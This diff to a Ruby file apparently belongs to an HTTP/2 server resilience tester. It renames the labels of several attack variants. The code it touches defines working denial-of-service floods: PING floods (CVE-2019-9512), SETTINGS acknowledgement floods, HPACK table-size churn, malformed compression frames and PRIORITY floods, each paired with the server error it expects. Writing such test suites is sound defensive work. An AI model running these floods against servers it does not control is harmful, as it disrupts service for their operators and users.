@@ -6,12 +6,12 @@ module Spate
     module Attacks
       attack "PING flood", "CVE-2019-9512", "annoyances" do
         variant("PINGs", :ENHANCE_YOUR_CALM) { |peer| peer.flood(20_000) { peer.frame(6, 0, 0, "12345678") } }
-        variant("answers to no PING", :ENHANCE_YOUR_CALM) do |peer|
+        variant("unsolicited answers", :ENHANCE_YOUR_CALM) do |peer|
           peer.flood(20_000) do
             peer.frame(6, 1, 0, "12345678")
           end
         end
-        variant("whose answers are not read", :ENHANCE_YOUR_CALM) do |peer|
+        variant("with unread answers", :ENHANCE_YOUR_CALM) do |peer|
           peer.silent = true
           peer.flood(20_000) { peer.frame(6, 0, 0, "12345678") }
         end
@@ -32,9 +32,9 @@ module Spate
         variant("acknowledgements", :ENHANCE_YOUR_CALM) { |peer| peer.flood(20_000) { peer.frame(4, 1) } }
       end
 
-      attack "changes of the table's size", nil, "annoyances; a table of 4096 bytes, whatever is offered" do
-        variant("as large as can be said", :served) { |peer| peer.write(peer.settings([1, 2**32 - 1])) }
-        variant("to and fro, with requests", :ENHANCE_YOUR_CALM) do |peer|
+      attack "changes of the table's size", nil, "annoyances; a table of at most 4096 bytes" do
+        variant("as large as possible", :served) { |peer| peer.write(peer.settings([1, 2**32 - 1])) }
+        variant("alternating, with requests", :ENHANCE_YOUR_CALM) do |peer|
           peer.flood(5000) { |n| peer.settings([1, n.even? ? 0 : 4096]) + peer.request(2 * n + 1) }
         end
         variant("all in one frame", :ENHANCE_YOUR_CALM) do |peer|
@@ -46,7 +46,7 @@ module Spate
             peer.frame(1, 5, 2 * n + 1, ("\x20" * 8000) + peer.block(*%w[:method GET :scheme http :path /]))
           end
         end
-        variant("larger than it may be", :COMPRESSION_ERROR) do |peer|
+        variant("larger than allowed", :COMPRESSION_ERROR) do |peer|
           peer.write(peer.frame(1, 5, 1, "\x3f\xe2\x1f\x82\x86\x84"))
         end
       end
@@ -55,7 +55,7 @@ module Spate
         variant("PRIORITY on idle streams", :ENHANCE_YOUR_CALM) do |peer|
           peer.flood(20_000) { |n| peer.frame(2, 0, 2 * n + 1, [n.even? ? 0 : 2 * n - 1, 15].pack("NC")) }
         end
-        variant("PRIORITY to and fro on one stream", :ENHANCE_YOUR_CALM) do |peer|
+        variant("alternating PRIORITY on one stream", :ENHANCE_YOUR_CALM) do |peer|
           peer.write(peer.request(1, "/never"))
           peer.flood(20_000) { |n| peer.frame(2, 0, 1, [2 * (n % 50) + 3, n % 256].pack("NC")) }
         end
